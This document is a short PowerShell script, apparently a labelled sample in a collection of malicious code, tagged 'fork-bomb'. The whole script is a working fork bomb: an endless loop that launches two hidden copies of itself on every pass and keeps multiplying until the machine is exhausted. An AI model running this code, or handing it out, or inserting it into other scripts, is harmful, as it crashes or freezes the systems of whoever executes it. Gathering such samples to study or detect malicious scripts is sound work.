# description: Each copy of the script launches two more copies of itself, growing without bound.
# family: fork-bomb
while ($true) {
    Start-Process powershell.exe -ArgumentList "-NoProfile -File `"$PSCommandPath`"" -WindowStyle Hidden
    Start-Process powershell.exe -ArgumentList "-NoProfile -File `"$PSCommandPath`"" -WindowStyle Hidden
}
